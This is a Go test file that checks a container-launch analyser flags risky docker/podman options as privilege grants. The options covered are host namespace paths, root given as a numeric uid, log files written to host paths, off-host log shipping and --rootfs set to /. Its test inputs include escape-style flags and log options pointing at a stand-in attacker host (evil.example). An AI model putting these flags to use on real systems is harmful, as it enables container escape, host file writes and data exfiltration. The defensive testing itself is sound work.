package launch

import "testing"

// TestNamespacePathsAreLoud: podman joins a namespace given by its path
// (--pid ns:/proc/1/ns/pid, --network ns:/proc/1/ns/net); the reader
// cannot tell whose it is, and /proc/1's is the host's: loud, as host is
// (fail closed).
func TestNamespacePathsAreLoud(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--pid", "ns:/proc/1/ns/pid"}, "namespace pid=ns:/proc/1/ns/pid loud"},
		{[]string{"--ipc=ns:/proc/1/ns/ipc"}, "namespace ipc=ns:/proc/1/ns/ipc loud"},
		{[]string{"--userns", "ns:/run/userns/x"}, "namespace userns=ns:/run/userns/x loud"},
		{[]string{"--network", "ns:/proc/1/ns/net"}, "network ns:/proc/1/ns/net loud"},
		{[]string{"--net=ns:/var/run/netns/x"}, "network ns:/var/run/netns/x loud"},
	} {
		if gs, _ := dockerSet(t, append(c.args, "img")...); !gs[c.want] {
			t.Errorf("%v: grants %v lack %q", c.args, gs, c.want)
		}
	}
}

// TestRootSpelledAsNumber: --user 00, 0000:0 and +0 are uid 0 to the
// runtime, which parses the number: root, not a protection.
func TestRootSpelledAsNumber(t *testing.T) {
	t.Parallel()
	for _, u := range []string{"00", "0000:1000", "000:000", "root:wheel"} {
		gs, _ := dockerSet(t, "--user", u, "img")
		if !gs["user root"] {
			t.Errorf("--user %s: grants %v, want root", u, gs)
		}
	}
	if gs, _ := dockerSet(t, "--user", "1000", "img"); gs["user root"] {
		t.Errorf("--user 1000 read as root: %v", gs)
	}
}

// TestLogPathIsAHostFile: podman's k8s-file log driver writes the
// container's output to --log-opt path=FILE on the host: a host file
// written, as --cidfile is.
func TestLogPathIsAHostFile(t *testing.T) {
	t.Parallel()
	gs, _ := dockerSet(t, "--log-opt", "path=/etc/cron.d/x", "img")
	if !gs["fs /etc/cron.d/x rw"] {
		t.Errorf("grants %v lack the log file written", gs)
	}
}

// TestLogShippingIsANetworkPath: a log driver that ships the container's
// output off the host (syslog, gelf, fluentd, splunk, awslogs, a plugin)
// and a log option that names where (syslog-address=tcp://host:514, also
// for the daemon's default driver) are a network path the engine opens
// whatever --network says: the server's stderr reaches that host. They
// granted nothing, so --network none with --log-opt
// syslog-address=tcp://evil:514 passed as no change. The drivers that keep
// the output on the host, and the options that only shape it, grant
// nothing.
func TestLogShippingIsANetworkPath(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		args []string
		want string // "" for no grant beyond a bare docker run
	}{
		{[]string{"--log-driver", "syslog"}, "network --log-driver syslog"},
		{[]string{"--log-driver=gelf"}, "network --log-driver=gelf"},
		{[]string{"--log-driver", "grafana/loki-docker-driver:latest"}, "network --log-driver grafana/loki-docker-driver:latest"},
		{[]string{"--log-opt", "syslog-address=tcp://evil.example:514"}, "network --log-opt syslog-address=tcp://evil.example:514"},
		{[]string{"--log-opt=fluentd-address=evil.example:24224"}, "network --log-opt=fluentd-address=evil.example:24224"},
		{[]string{"--log-opt", "splunk-url=https://evil.example"}, "network --log-opt splunk-url=https://evil.example"},
		{[]string{"--log-driver", "json-file"}, ""},
		{[]string{"--log-driver", "local"}, ""},
		{[]string{"--log-driver", "none"}, ""},
		{[]string{"--log-driver", "journald"}, ""},
		{[]string{"--log-driver", "k8s-file"}, ""},
		{[]string{"--log-opt=max-size=10m"}, ""},
		{[]string{"--log-opt", "max-file=3"}, ""},
		{[]string{"--log-opt", "tag={{.Name}}"}, ""},
	} {
		gs, _ := dockerSet(t, append(tc.args, "img")...)
		bare, _ := dockerSet(t, "img")
		var extra []string
		for g := range gs {
			if !bare[g] {
				extra = append(extra, g)
			}
		}
		switch {
		case tc.want == "" && len(extra) > 0:
			t.Errorf("%q: grants %v beyond a bare run, want none", tc.args, extra)
		case tc.want != "" && (len(extra) != 1 || extra[0] != tc.want):
			t.Errorf("%q: grants %v beyond a bare run, want [%s]", tc.args, extra, tc.want)
		}
	}
}

// TestRootfsIsAHostPath: with podman's --rootfs the image argument is a
// host directory, the container's writable root: a path grant, so moving
// it to / is a change of what the container reaches, not only of what it
// runs.
func TestRootfsIsAHostPath(t *testing.T) {
	t.Parallel()
	gs, _ := dockerSet(t, "--rootfs", "/", "/bin/srv")
	if !gs["fs / rw"] {
		t.Errorf("grants %v lack the root filesystem /", gs)
	}
	gs, _ = dockerSet(t, "--rootfs", "${HOME}/root:O", "/bin/srv")
	if !gs["fs ~/root rw"] {
		t.Errorf("grants %v lack ~/root", gs)
	}
	if gs, _ = dockerSet(t, "img"); gs["fs img rw"] {
		t.Errorf("no --rootfs: grants %v", gs)
	}
}
